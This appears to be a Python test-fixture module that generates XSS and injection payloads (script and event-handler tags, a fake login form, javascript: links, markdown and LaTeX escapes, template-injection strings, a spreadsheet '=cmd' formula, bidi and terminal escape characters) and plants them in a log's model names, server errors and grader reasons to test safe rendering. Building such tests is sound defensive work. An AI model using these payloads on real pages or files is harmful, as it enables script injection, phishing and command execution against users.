"""Texts that try to be more than text: markup, styles, media, forms, links, formulas, templates, characters.

Whatever of them runs sets `window.pwned`; whatever of them loads asks `evil`, which in the browser tests is a listener
that counts. Each can stand in a message, in a model's words, in a name or in an error of a server.
"""

from __future__ import annotations

from typing import Any

from interviewer.domain import Event

RUN = "window.pwned=1"


def payloads(evil: str) -> tuple[str, ...]:
    """All of them; `evil` is an address without a slash at the end."""
    return (*_markup(evil), *_styles(evil), *_markdown(evil), *_formulas(evil), *_templates(), *_characters(evil))


def marked(texts: tuple[str, ...]) -> tuple[str, ...]:
    """The texts, each with a beginning of its own by which a test finds it."""
    return tuple(f"marker{number} is real: {text}" for number, text in enumerate(texts))


def _markup(evil: str) -> tuple[str, ...]:
    return (
        f"<script>{RUN}</script>",
        f'<script src="{evil}/a.js"></script><script type="module" src="{evil}/m.js"></script>',
        f'<img src=x onerror="{RUN}">',
        f'<img src="{evil}/beacon.png" srcset="{evil}/2x.png 2x">',
        f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x"/><image href="{evil}/i.svg"/></svg>',
        f'<svg><use href="{evil}/u.svg#x"/><foreignObject><body onload={RUN}></foreignObject></svg>',
        f'<iframe src="{evil}/f" srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f'<form action="{evil}/login"><input name="key" autofocus onfocus={RUN}><button>Sign in again</button></form>',
        f'<video src="{evil}/v.mp4" autoplay poster="{evil}/p.png"></video><audio src="{evil}/a.mp3" autoplay></audio>',
        f'<link rel="stylesheet" href="{evil}/e.css"><link rel="prefetch" href="{evil}/pf"><base href="{evil}/">',
        f'<meta http-equiv="refresh" content="0;url={evil}/refresh">',
        f'<object data="{evil}/o"></object><embed src="{evil}/p"><applet code="{evil}/q"></applet>',
        f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}" tabindex="0" ping="{evil}/ping">click</a>',
        f'<details open ontoggle="{RUN}"><summary>more</summary></details><dialog open>Your session is over</dialog>',
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        "</div></li></ol></section></main><h1>Interviewer</h1><template><p>hidden</p></template>",
        f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?xml-stylesheet href='{evil}/x'?>",
        f'" onmouseover="{RUN}" style="position:fixed;inset:0" x="',
    )


def _styles(evil: str) -> tuple[str, ...]:
    return (
        f'<div style="position:fixed;inset:0;background:url({evil}/b.png);z-index:99999">Your session is over</div>',
        f'<style>body {{ display: none; background: url("{evil}/c.png") }}</style>',
        f'<style>@import url("{evil}/d.css"); @font-face {{ font-family: x; src: url({evil}/f.woff) }}</style>',
    )


def _markdown(evil: str) -> tuple[str, ...]:
    return (
        f"![picture]({evil}/md.png) and ![ref][r]\n\n[r]: {evil}/ref.png",
        f"[a link]({evil}/link) [script](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>)",
        f"<{evil}/auto> {evil}/bare <javascript:{RUN}> [^1]\n\n[^1]: ![note]({evil}/note.png)",
        f"| a | b |\n|---|---|\n| ![cell]({evil}/cell.png) | <b>x</b> |\n\n# A heading\n\n> quoted\n\n- [x] done",
        f"```html\n</code></pre><script>{RUN}</script>\n```",
        f'~~~mermaid\nclick a href "javascript:{RUN}"\n~~~\n\n```svg onload={RUN}\n<svg/>\n```',
        f"`</code><img src=x onerror={RUN}>` and \\<b>bold\\</b> and &lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62;",
    )


def _formulas(evil: str) -> tuple[str, ...]:
    return (
        f"$\\href{{javascript:{RUN}}}{{x}}$ $\\includegraphics{{{evil}/k.png}}$ $\\url{{javascript:{RUN}}}$",
        "$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlId{talk}{x}$ $\\htmlClass{card}{x}$ $\\htmlData{a=b}{x}$",
        "$\\smash{\\raisebox{-20em}{\\rule{80em}{80em}}}$ $x \\hspace{-60em} \\Huge\\textsf{Session over}$",
        "$\\def\\a{\\a\\a}\\a$ $\\gdef\\frac{y}$ $\\text{</span><b>x</b>}$",
        "$$\\begin{matrix}1\\\\[900em]2\\end{matrix}$$ $a \\above{900em} b$ $\\genfrac{}{}{900em}{}{a}{b}$",
        "$" + "x" * 450 + "$ and $\\mathrlap{\\Huge " + "y" * 90 + "}$",
    )


def _templates() -> tuple[str, ...]:
    return (
        f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} {{{{{{x}}}}}} {{% x %}} <%= x %> #{{x}}",
        f"=HYPERLINK(\"javascript:{RUN}\") +1 -1 @SUM(1) \t=cmd|' /C calc'!A0",
    )


def _characters(evil: str) -> tuple[str, ...]:
    return (
        "\u202e\u2066gnp.live\u2069 \u200b\u2060\ufeff \U000e0041\U000e0042 <\u0131mg src=x>",
        f"\x00\x07\x08\x1b[31m\x1b]8;;{evil}/term\x07<IMG\x0cSRC=X\x0bONERROR={RUN}>\x9b31m",
        "W" * 2500,
    )


_FROM_OTHERS = frozenset(("by", "fell_back", "reason", "ceiling", "prompt", "model"))
"""What a log holds of a model's name, a server's error and a grader's reasons."""


def poisoned(events: tuple[Event, ...], text: str) -> tuple[Event, ...]:
    """The log with `text` in every such place."""
    return tuple(event.model_copy(update={"payload": _poisoned(event.payload, text)}) for event in events)


def _poisoned(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {
            key: text if key in _FROM_OTHERS and isinstance(found, str) else _poisoned(found, text)
            for key, found in value.items()
        }
    return [_poisoned(found, text) for found in value] if isinstance(value, list) else value
